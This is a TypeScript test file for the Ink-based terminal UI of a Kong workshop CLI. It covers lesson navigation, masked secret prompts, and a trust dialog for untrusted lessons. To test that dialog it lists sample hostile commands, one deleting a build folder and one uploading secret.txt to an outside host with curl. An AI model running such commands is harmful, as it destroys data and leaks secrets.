import { render } from 'ink-testing-library';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { App } from '../../src/ui/App.js';
import { FakeWorkshop, fixtureLesson, homeState, lessonState, openLesson } from './fixtures.js';
import { KEY, settle } from './keys-input.js';

let unmount: (() => void) | undefined;
afterEach(() => unmount?.());

async function start(workshop: FakeWorkshop) {
  const app = render(<App workshop={workshop} version="1.2.3" />);
  unmount = app.unmount;
  await settle();
  return app;
}

describe('the home screen', () => {
  it('lists the lessons with their progress, the target and its state', async () => {
    const { lastFrame } = await start(
      new FakeWorkshop(homeState({ doctor: 'Not ready for the sandbox target: port 8000 (1 failed).' })),
    );
    const frame = lastFrame()!;
    expect(frame).toContain('kong-workshop 1.2.3');
    expect(frame).toContain('Target sandbox  ● sandbox running at http://127.0.0.1:8000');
    expect(frame).toContain('! Not ready for the sandbox target: port 8000 (1 failed).');
    expect(frame).toMatch(/❯ ✗ 1\. Per-consumer limits\s+1\/3 ━━━───── {2}2020-01-01/);
    expect(frame).toMatch(/ {2}○ 2\. Protect a route with key-auth\s+0\/4 ──────── {2}new/);
    expect(frame).toMatch(/ {2}– 3\. Auth configuration for Konnect\s+runs on konnect/);
    expect(frame).toMatch(/ {2}! 4\. \/lessons\/broken\.md\s+cannot be opened/);
    expect(frame).toContain('Give each consumer its own request budget.');
    expect(frame).toContain('about 15 min · 3 steps · targets: sandbox, gateway');
    expect(frame).toMatch(/ Enter {2}open/);
  });

  it('asks the workshop to look at the target once the first frame is up', async () => {
    const workshop = new FakeWorkshop(homeState());
    await start(workshop);
    expect(workshop.calls).toContain('refresh');
  });

  it('moves the selection with the arrows (wrapping) and opens the chosen lesson with Enter', async () => {
    const workshop = new FakeWorkshop(homeState());
    const { lastFrame, stdin } = await start(workshop);
    stdin.write(KEY.down);
    await vi.waitFor(() => expect(lastFrame()).toContain('❯ ○ 2. Protect a route with key-auth'));
    stdin.write(KEY.up);
    stdin.write(KEY.up);
    await vi.waitFor(() => expect(lastFrame()).toContain('❯ ! 4. /lessons/broken.md'));
    expect(lastFrame()).toContain('1 error: broken.md:3:1 missing id');
    stdin.write(KEY.down);
    await vi.waitFor(() => expect(lastFrame()).toContain('❯ ✗ 1. Per-consumer limits'));
    stdin.write(KEY.enter);
    await vi.waitFor(() => expect(workshop.calls).toContain('open /lessons/limits.md'));
  });

  it('switches to the next target with t', async () => {
    const workshop = new FakeWorkshop(homeState());
    const { stdin } = await start(workshop);
    stdin.write('t');
    await vi.waitFor(() => expect(workshop.calls).toContain('target kind'));
  });

  it('shows every key with ?, and closes the list with any key', async () => {
    const { lastFrame, stdin } = await start(new FakeWorkshop(homeState()));
    stdin.write('?');
    await vi.waitFor(() => expect(lastFrame()).toContain('Keys'));
    expect(lastFrame()).toContain('run only its checks');
    expect(lastFrame()).toContain('stop the running command; again to quit');
    expect(lastFrame()).toContain('quit (progress is saved)');
    // The list takes keys once its input handler is attached (an effect after the frame).
    await settle();
    stdin.write('x');
    await vi.waitFor(() => expect(lastFrame()).toContain('Lessons'));
  });

  it('quits with q, saving through the workshop', async () => {
    const workshop = new FakeWorkshop(homeState());
    const { stdin } = await start(workshop);
    stdin.write('q');
    await vi.waitFor(() => expect(workshop.calls).toContain('quit'));
  });

  it('says it when there are no lessons', async () => {
    const { lastFrame } = await start(new FakeWorkshop(homeState({ lessons: [] })));
    expect(lastFrame()).toContain('No lessons here. Open one with kong-workshop start path/to/lesson.md');
  });

  it('reflows when the terminal is resized, down to 80×24', async () => {
    const { lastFrame, stdout } = await start(new FakeWorkshop(homeState()));
    Object.defineProperty(stdout, 'columns', { value: 50, configurable: true });
    Object.defineProperty(stdout, 'rows', { value: 12, configurable: true });
    stdout.emit('resize');
    await vi.waitFor(() => expect(lastFrame()!.split('\n').length).toBeLessThanOrEqual(11));
    for (const line of lastFrame()!.split('\n')) expect(line.length).toBeLessThanOrEqual(50);
    expect(lastFrame()).toContain('❯ ✗ 1. Per-consumer lim…  1/3');
    // Narrow, the bar keeps the key list and the way out, q, and drops the rest first.
    expect(lastFrame()).toMatch(/ q {2}quit {3}\? {2}keys$/m);
  });
});

describe('back from a lesson', () => {
  const lesson = fixtureLesson();
  it('puts the cursor on the next lesson once it is complete, and on the same one while it is not', async () => {
    const complete = openLesson(lesson, [], { steps: ['passed', 'passed', 'passed'], stepIndex: 2 });
    const first = new FakeWorkshop(lessonState(complete));
    const done = await start(first);
    first.update({ screen: 'home' });
    await vi.waitFor(() => expect(done.lastFrame()).toContain('❯ ○ 2. Protect a route with key-auth'));
    done.unmount();

    const halfway = openLesson(lesson, [], { steps: ['passed', 'failed', 'pending'], stepIndex: 1 });
    const second = new FakeWorkshop(lessonState(halfway));
    const back = await start(second);
    second.update({ screen: 'home' });
    await vi.waitFor(() => expect(back.lastFrame()).toContain('❯ ✗ 1. Per-consumer limits'));
  });
});

describe('questions from the workshop', () => {
  it('masks a secret as it is typed and hands the real value over on Enter', async () => {
    const workshop = new FakeWorkshop(
      homeState({
        dialog: {
          kind: 'prompt',
          name: 'KONNECT_TOKEN',
          question: 'Konnect personal or system access token',
          secret: true,
          hint: 'Konnect tokens start with kpat_ (personal) or spat_ (system account)',
        },
      }),
    );
    const { lastFrame, stdin } = await start(workshop);
    expect(lastFrame()).toContain(
      '? Konnect personal or system access token  KONNECT_TOKEN · secret, hidden as you type',
    );
    expect(lastFrame()).toContain('Konnect tokens start with kpat_');
    stdin.write('kpat_s3cr3t');
    await vi.waitFor(() => expect(lastFrame()).toContain('> •••••••••••'));
    stdin.write(KEY.backspace);
    await vi.waitFor(() => expect(lastFrame()).toContain('> ••••••••••'));
    expect(lastFrame()).not.toContain('s3cr');
    // Typed and submitted faster than the screen redraws: every key still counts.
    stdin.write('t');
    stdin.write(KEY.enter);
    await vi.waitFor(() => expect(workshop.calls).toContain('prompt "kpat_s3cr3t"'));
  });

  it('shows why an answer was refused, and Esc cancels', async () => {
    const workshop = new FakeWorkshop(
      homeState({
        dialog: {
          kind: 'prompt',
          name: 'CONSUMER',
          question: 'Who?',
          secret: false,
          default: 'alex',
          error: 'does not match ^[a-z]+$',
        },
      }),
    );
    const { lastFrame, stdin } = await start(workshop);
    expect(lastFrame()).toContain('✗ does not match ^[a-z]+$');
    expect(lastFrame()).toContain('Enter keeps alex');
    stdin.write('Bo');
    await vi.waitFor(() => expect(lastFrame()).toContain('> Bo'));
    stdin.write(KEY.escape);
    await vi.waitFor(() => expect(workshop.calls).toContain('prompt (cancelled)'));
  });

  it('lists what an untrusted lesson would run and needs a deliberate y', async () => {
    const workshop = new FakeWorkshop(
      homeState({
        dialog: {
          kind: 'trust',
          file: '/tmp/x.md',
          title: 'Someone else’s lesson',
          plan: {
            commands: ['rm -rf ./build', 'curl example.com \\\n  --data @secret.txt'],
            writes: ['notes.txt'],
            reads: ['/tmp/shown.yaml'],
            requests: [{ method: 'GET', url: 'http://127.0.0.1:9/x', secrets: ['SANDBOX_TOKEN'] }],
          },
        },
      }),
    );
    const { lastFrame, stdin } = await start(workshop);
    expect(lastFrame()).toContain('“Someone else’s lesson” does not ship with kong-workshop.');
    expect(lastFrame()).toContain('$ rm -rf ./build');
    // Every line of every command, and everything else it would do.
    expect(lastFrame()).toContain('--data @secret.txt');
    expect(lastFrame()).toContain('writes notes.txt');
    expect(lastFrame()).toContain('sends GET http://127.0.0.1:9/x with SANDBOX_TOKEN: not the target');
    expect(lastFrame()).toContain('shows /tmp/shown.yaml');
    stdin.write(KEY.enter);
    await settle();
    expect(workshop.calls.filter((c) => c.startsWith('trust'))).toEqual([]);
    stdin.write('y');
    await vi.waitFor(() => expect(workshop.calls).toContain('trust true'));
  });

  it('scrolls a plan longer than the screen instead of cutting it off', async () => {
    const commands = Array.from({ length: 60 }, (_, i) => `echo line-${i}`);
    const workshop = new FakeWorkshop(
      homeState({
        dialog: {
          kind: 'trust',
          file: '/tmp/x.md',
          title: 'Long',
          plan: { commands, writes: [], reads: [], requests: [] },
        },
      }),
    );
    const { lastFrame, stdin } = await start(workshop);
    expect(lastFrame()).toContain('$ echo line-0');
    expect(lastFrame()).not.toContain('$ echo line-59');
    expect(lastFrame()).toMatch(/scroll \(0 above, \d+ below\)/);
    for (let i = 0; i < 60; i++) stdin.write(KEY.down);
    await vi.waitFor(() => expect(lastFrame()).toContain('$ echo line-59'));
    expect(lastFrame()).toMatch(/scroll \(\d+ above, 0 below\)/);
  });

  it('offers to re-check on resume; Enter accepts, n declines', async () => {
    const lesson = fixtureLesson();
    const dialog = {
      kind: 'resume' as const,
      title: lesson.title,
      stepIndex: 2,
      stepTitle: 'Clean the slate',
      passed: 2,
      total: 3,
    };
    const workshop = new FakeWorkshop(lessonState(openLesson(lesson, [], { stepIndex: 2 }), dialog));
    const { lastFrame, stdin } = await start(workshop);
    expect(lastFrame()).toContain('Welcome back. You were on step 3 of 3, “Clean the slate”.');
    expect(lastFrame()).toContain('2 steps passed last time.');
    stdin.write(KEY.enter);
    await vi.waitFor(() => expect(workshop.calls).toContain('resume true'));
    workshop.update({ dialog });
    await settle();
    stdin.write('n');
    await vi.waitFor(() => expect(workshop.calls).toContain('resume false'));
  });
});
